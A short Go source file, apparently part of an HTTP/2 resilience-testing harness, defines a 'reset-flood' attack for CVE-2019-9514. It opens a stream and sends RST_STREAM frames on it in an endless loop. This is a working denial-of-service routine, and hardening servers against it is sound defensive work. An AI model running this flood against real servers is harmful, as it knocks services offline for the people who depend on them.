package main

import (
	"context"

	"golang.org/x/net/http2"
)

// resetFlood resets a stream that has ended, again and again.
var resetFlood = &attack{
	name: "reset-flood", what: "RST_STREAM on a closed stream without end (CVE-2019-9514)",
	run: func(ctx context.Context, e *enemy) error {
		id, err := e.get("/bench/hello")
		if err != nil {
			return err
		}
		for ctx.Err() == nil {
			if err := e.alive(e.fr.WriteRSTStream(id, http2.ErrCodeCancel)); err != nil {
				return err
			}
		}
		return nil
	},
}
